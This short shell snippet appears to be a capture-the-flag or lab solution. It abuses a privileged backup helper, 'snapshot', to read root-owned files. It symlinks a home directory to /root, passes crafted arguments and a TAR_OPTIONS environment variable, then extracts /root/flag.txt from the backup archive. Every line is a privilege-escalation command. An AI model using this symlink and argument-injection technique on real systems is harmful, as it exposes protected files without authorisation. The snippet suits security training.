#-- the helper as it is meant, and what its archive holds
ln -s /root ~/desk
snapshot; tar -xOf /var/backups/desk.tar
#-- its arguments, its working directory, and the environment of its tar
cd / && snapshot --directory=/ root; TAR_OPTIONS='--verbose' snapshot /root/flag.txt
tar -tf /var/backups/desk.tar; tar -xOf /var/backups/desk.tar | tail -n 1
